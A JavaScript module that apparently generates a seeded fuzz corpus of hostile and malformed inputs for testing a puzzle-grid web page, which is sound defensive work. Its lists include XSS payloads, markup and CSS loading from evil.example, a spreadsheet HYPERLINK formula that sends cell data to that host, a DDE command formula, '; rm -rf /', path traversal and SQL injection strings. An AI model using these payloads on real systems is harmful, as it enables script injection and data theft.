// Hostile texts, the same for the same seed: texts pasted to make the page fail, and damaged files.

import { S2 } from './person.mjs';

// Numbers from a seed (mulberry32).
export function randomOf(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6D2B79F5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
  const below = (end) => Math.floor(next() * end);
  return { below, of: (list) => list[below(list.length)] };
}

// Texts that would run if they became markup, script, style or an address. All of them call `pwned`.
const RUNS = [
  '<script>pwned()</script>', '<img src=x onerror=pwned()>', '<svg/onload=pwned()>', '<iframe srcdoc="<script>parent.pwned()</script>">',
  '"><body onload=pwned()>', "'-pwned()-'", '${pwned()}', '{{constructor.constructor("pwned()")()}}', 'javascript:pwned()', '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>', '<!--<script>pwned()//-->', ']]><script>pwned()</script>', '<math><mtext></table><mglyph><style><img src onerror=pwned()>',
  '<template><script>pwned()</script></template>', '<a href="javascript:pwned()">1</a>', '<details open ontoggle=pwned()>', '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  'data:text/html,<script>opener.pwned()</script>', '<object data="javascript:pwned()">', '<link rel=stylesheet href=//evil.example/a.css>', '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '@import "//evil.example/a.css";', '<base href=//evil.example/>', '%3Cscript%3Epwned()%3C/script%3E', '<form action=//evil.example/><button>5</button>', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */pwned())//',
  '=HYPERLINK("http://evil.example/?"&A1)', '=cmd|\'/c calc\'!A1', '+1+pwned()', '-1+pwned()', '@SUM(1)', '\t=1', '%0A%0Dp=1', 'https://evil.example/#p=1',
];
const NAMES = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'then', 'p=__proto__&s=constructor', '{"__proto__":{"pwned":1}}', '[object Object]', 'NaN', 'undefined', 'null', 'Infinity', '1e309',
  '-0', '../../etc/passwd', 'CON', 'a\0b', '%00', '%s%n%x', "' OR 1=1 --", '; rm -rf /', '$(pwned)', '`pwned`', '[Regions]', '[Regions]\n', '[Puzzle]', ':0000:x:', '#', '//', ';', '|', '#p=', '&&&&', 'p=&p=&p=', 's=0x0&p=1', 's=255x255&p=1', 'r=aaaa&p=1', 'w=' + 'x'.repeat(5000),
];
const SIGNS = [
  '\0', '\uFEFF', '\uFFFE', '\u202E', '\u2066', '\u2069', '\u200B', '\u200D', '\u00AD', '\u0301'.repeat(50), '\uD800', '\uDC00', '\uD83D', '\u{10FFFF}', '\u{1F9D1}\u200D\u{1F680}', '\u2028', '\u2029', '\u0085', '\x1B[31m', '\x07', '\x7F', '\uFFFD', '\u3000', '\u00A0', '１', '٣', '𝟗', '②', '½', 'Ⅳ', '〇', 'O', 'l',
];
const LONG = [
  '1', '\n', '\n1', '1 \n', ' ', '\t', '|', '-', '.', '0', '[', '{"a":', '((((', '<', '"', ',', '\r', '\r\n', '#\n', ';', '\u202E', '\u{1F600}', '\uD800', '....\n......\n', '12 ', 'ABCDEFGHIJKLMNOPQRSTUVWXY', '%', '%41', '&p=', '\u0301', ':0101:5:', '517 ', `${S2}\n`, '<b>', '\0',
];

function shaped(random, side, symbols, between) {
  const rows = [];
  for (let row = 0; row < side; row += 1) {
    rows.push(Array.from({ length: side }, () => (random.below(3) ? '.' : symbols[random.below(side)])).join(between));
  }
  return rows;
}

const LETTERS = [...'123456789ABCDEFGHIJKLMNOP'];
const NUMBERS = LETTERS.map((_, index) => String(index + 1));
const CASE = ':0101:5:+5........1...............................................................1.......:517 518:521 522::';
const MAP = '111122333111222333112222333444555566444555666444556666777788999777888999778888999';

// A text in each readable form.
function good(random) {
  const side = random.of([4, 6, 8, 9, 9, 9, 12, 16, 25]);
  const rows = shaped(random, side, LETTERS, random.of(['', '', ' ', ',', ' | ', '\t', ';']));
  const forms = [
    () => rows.join('\n'), () => rows.join(''), () => rows.join('\r\n'),
    () => rows.map((row) => `| ${row} |`).join('\n+-----+\n'),
    () => shaped(random, side, NUMBERS, ' ').join('\n'),
    () => S2, () => S2.replaceAll('0', random.of(['.', '*', '_', '-', '?', 'x'])),
    () => CASE, () => `${S2} ${MAP}`, () => `${S2}\n[Regions]\n${MAP}`,
    () => `p=${S2}&w=${random.of(['solve', 'text', 'create', 'solutions'])}`, () => `p=${rows.join('')}&s=${random.of(['3x3', '2x3', '4x4', '5x5', '1x9'])}`, () => `p=${S2}&r=${MAP}`,
    () => rows.join('\n').replace(/\d/g, (figure) => String.fromCodePoint(random.of([0x660, 0x966, 0xFF10, 0x1D7CE]) + Number(figure))),
  ];
  return random.of(forms)();
}

function mutated(random) {
  let text = [...good(random)];
  for (let edits = 1 + random.below(5); edits > 0; edits -= 1) {
    const at = random.below(text.length + 1);
    const piece = [...random.of([random.of(SIGNS), random.of(RUNS), random.of(NAMES), String.fromCodePoint(random.below(0xD800)), random.of(LETTERS)])];
    const edit = random.of([
      () => text.splice(at, 0, ...piece), () => text.splice(at, 1), () => text.splice(at, 1, ...piece), () => text.splice(at), () => text.splice(at, 0, ...text.slice(0, at)),
    ]);
    edit();
  }
  return text.join('');
}

function long(random) {
  const length = random.of([3_000, 20_000, 70_000, 200_000, 1_000_000, 1_100_000]);
  const [one, other] = [random.of(LONG), random.of(LONG)];
  const run = one.repeat(Math.ceil(length / one.length));
  return random.of([run, run + other, other + run, (one.repeat(100) + other).repeat(Math.ceil(length / (one.length * 100 + other.length)))]).slice(0, length);
}

// Bytes that are not text at all, as a browser passes them on when they are taken for text.
function binary(random) {
  const heads = ['\x89PNG\r\n\x1A\n', 'PK\x03\x04', '\x7FELF', '\0asm', 'GIF89a', '%PDF-1.7\n', 'ÿþ1\0', 'þÿ\0', '\x1F\x8B'];
  return random.of(heads) + Array.from({ length: random.below(3000) }, () => String.fromCharCode(random.below(256))).join('');
}

// Every decimal digit that the browser's Unicode knows, ten by ten.
export function scripts() {
  const digits = [];
  for (let code = 0; code < 0x110000; code += 1) {
    if ((code < 0xD800 || code > 0xDFFF) && /\p{Nd}/u.test(String.fromCodePoint(code))) digits.push(String.fromCodePoint(code));
  }
  return Array.from({ length: digits.length / 10 }, (_, index) => digits.slice(index * 10, index * 10 + 10));
}

// This many texts: first the listed ones, then generated ones in turn.
export function corpus(count, seed) {
  const random = randomOf(seed);
  const listed = [
    ...RUNS, ...RUNS.map((run) => `${S2} ${run}`), ...RUNS.map((run) => `${run}\n${S2}`), ...NAMES, ...SIGNS, ...SIGNS.map((sign) => S2.slice(0, 40) + sign + S2.slice(40)),
    ...scripts().map((script) => S2.replace(/\d/g, (figure) => script[figure])),
  ];
  const makers = [mutated, mutated, mutated, mutated, binary, long];
  const texts = [];
  while (texts.length < count) {
    const text = texts.length % 3 && listed.length ? listed.shift() : random.of(makers)(random);
    if (text) texts.push(text);
  }
  return texts;
}
